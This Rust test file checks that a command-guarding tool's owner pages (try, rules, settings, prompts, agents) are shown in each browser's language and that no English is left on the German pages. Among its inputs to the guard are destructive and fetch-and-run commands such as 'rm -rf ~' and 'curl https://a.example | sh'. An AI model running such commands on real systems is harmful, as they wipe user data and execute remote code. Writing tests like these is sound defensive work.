//! The pages on which the owner tries and changes something, in each language, and whether English was forgotten in one.

use std::collections::BTreeSet;

use super::web::{Request, Seat, encoded};
use super::world::{World, within};

/// What browsers like, by language, with how each page begins.
const LANGUAGES: [(&str, [&str; 5]); 8] = [
    (
        "en",
        [
            "A line as an",
            "Your own rules",
            "What is in force",
            "What a language",
            "The agents that",
        ],
    ),
    (
        "de",
        ["Eine Zeile, wie", "Die eigenen Regeln", "Was gilt, und", "Was einem", "Die Agenten auf"],
    ),
    (
        "fr",
        ["Une ligne comme", "Les règles", "Ce qui est en", "Ce qui est dit", "Les agents présents"],
    ),
    (
        "es",
        [
            "Una línea como",
            "Las reglas propias",
            "Lo que está en",
            "Lo que se dice",
            "Los agentes de",
        ],
    ),
    ("da", ["En linje, som", "De egne regler", "Hvad der gælder", "Hvad en", "Agenterne på"]),
    ("ru", ["Строка, какой", "Собственные", "Что действует", "Что говорится", "Агенты на"]),
    (
        "ja",
        [
            "エージェントが送る",
            "組み込みのルール",
            "有効な値と",
            "設定で言語モデル",
            "このマシンの",
        ],
    ),
    ("zh-CN", ["代理会发送", "自己的规则", "生效的值", "设置要求询问", "本机上的代理"]),
];
const PAGES: [&str; 5] = ["/try", "/rules", "/settings", "/prompts", "/agents"];

/// A rule with an example that holds and one that does not.
const RULE: &str = "pack = \"own\"\nsummary = \"s\"\n\n[[rule]]\nid = \"own.a\"\ncommand = [\"make\"]\nseverity = \"high\"\nreason = \"builds\"\nmatches = [\"make a\"]\npasses = [\"make b\", \"ls\"]\n";

/// What a browser that likes this language gets.
fn shown(world: &World, seat: &Seat, request: Request, likes: &str) -> String {
    let request = request.of_seat(&seat.token).with("Accept-Language", Some(likes));
    let answer = request.sent(world);
    assert_eq!(answer.status, 200, "{likes}: {answer:?}");
    answer.body
}

#[test]
fn the_owners_pages_are_in_the_language_of_each_browser() {
    within("languages_owner::the_owners_pages_are_in_the_language_of_each_browser", || {
        let mut world = World::begin();
        let seat = Seat::take(&mut world);
        for (likes, texts) in LANGUAGES {
            for (path, text) in PAGES.into_iter().zip(texts) {
                let page = shown(&world, &seat, Request::get(&world, path), likes);
                assert!(page.contains(&format!(">{text}")), "{likes} {path}: {page}");
            }
        }
        let refused =
            Request::post(&world, "/change", "what=x&digest=x&nonce=x&body=&signature=zz");
        let refused = refused.of_seat(&seat.token).with("Accept-Language", Some("ja"));
        assert_eq!(refused.sent(&world).body, "署名が 16 進数ではありません\n");
    });
}

/// What a person reads in a page: its texts and what names things for those who do not see, apart from code and what stands in fields.
fn texts(page: &str) -> BTreeSet<String> {
    let mut texts = BTreeSet::new();
    let mut left = page;
    while let Some((text, rest)) = left.split_once('<') {
        texts.extend(text.split(" · ").map(|text| text.trim().to_owned()));
        let (tag, behind) = rest.split_once('>').unwrap_or((rest, ""));
        let name = tag.split(' ').next().unwrap_or_default();
        for told in ["aria-label", "placeholder", "title", "data-looking", "data-not-made"] {
            let value = tag.split(&format!(" {told}=\"")).nth(1);
            let value = value.and_then(|value| value.split('"').next());
            // What is suggested in a field of several lines is code.
            texts.extend(
                value.filter(|_| (name, told) != ("textarea", "placeholder")).map(str::to_owned),
            );
        }
        let is_kept = ["code", "pre", "textarea", "option", "style"].contains(&name);
        left = match behind.split_once(&format!("</{name}>")) {
            Some((code, after)) if is_kept => {
                // What marks parts of a line is told, though the line is code.
                let marks = code.split("title=\"").skip(1);
                texts.extend(marks.filter_map(|mark| mark.split('"').next()).map(str::to_owned));
                after
            }
            _ => behind,
        };
    }
    texts.retain(|text| text.chars().filter(|letter| letter.is_alphabetic()).count() > 1);
    texts
}

/// What is the same in German: names, and the words of the owner's rule.
const SAME: [&str; 20] = [
    "brief",
    "builds",
    "failure",
    "guarded-sh",
    "Hooks",
    "Live",
    "mcp",
    "note",
    "opinion",
    "own",
    "Passkeys",
    "Prompts",
    "read",
    "shell",
    "Shell",
    "validate",
    "web",
    "write",
    "claude",
    "opencode",
];

#[test]
fn no_english_is_left_in_german() {
    within("languages_owner::no_english_is_left_in_german", || {
        std::fs::create_dir_all("/srv/home/.config/guarded-sh/rules").unwrap();
        std::fs::write(
            "/srv/home/.config/guarded-sh/rules/own.toml",
            "pack = \"own\"\nsummary = \"s\"\n",
        )
        .unwrap();
        let mut world = World::begin();
        let seat = Seat::take(&mut world);
        let rule = encoded(RULE);
        let get = |path| Request::get(&world, path);
        let post = |path, body: &str| Request::post(&world, path, body);
        let line = |line: &str| format!("line={}&directory=/srv/home/app", encoded(line));
        let broken = encoded("profle = 1\n");
        let requests = [
            get("/rules?file=own"),
            get("/prompts"),
            get("/settings"),
            get("/agents"),
            get("/suggestions"),
            get("/try"),
            post("/try", &line("rm -rf ~ && sudo ls > /etc/x; curl https://a.example | sh")),
            post("/try", &line("pip install x; ls; A=1; eval $B; git push -f origin main")),
            post("/try", &(line("rm a") + "&profile=strict&threshold=90")),
            post("/try", &(line("make a") + "&rule=" + &rule)),
            post("/try", &(line("rm a") + "&threshold=200")),
            post("/try", "line=ls&directory=/srv/home/app&profile=x"),
            post("/rules/checked", &format!("file=own&text={rule}&tried=true")),
            post("/settings/changed", "key=profile&value=strict"),
            post("/settings/changed", "key=profile&remove=true"),
            post(
                "/prompts/checked",
                "part=brief&text=%7Bcommon%7D%0Ax&line=ls&directory=/srv/home",
            ),
            post("/prompts/checked", "part=none&text=x"),
            post("/agents/shown", "way=install&agent=none"),
        ];
        let mut forgotten = Vec::new();
        for request in requests {
            let what = format!("{} {}", request.target, request.body);
            let english = texts(&shown(&world, &seat, request.clone(), "en"));
            assert!(english.len() > 2, "{what}: {english:?}");
            let german = texts(&shown(&world, &seat, request, "de"));
            let same = english.intersection(&german).filter(|text| !SAME.contains(&text.as_str()));
            forgotten.extend(same.map(|text| format!("{what}: {text}")));
        }
        assert!(forgotten.is_empty(), "{}", forgotten.join("\n"));
        // What the file of rules says is wrong is the guard's own word, as at the terminal.
        let wrong =
            shown(&world, &seat, post("/settings/changed", &format!("text={broken}")), "de");
        assert!(wrong.contains("Zeile 1, Spalte 1:") && wrong.contains("profile"), "{wrong}");
    });
}
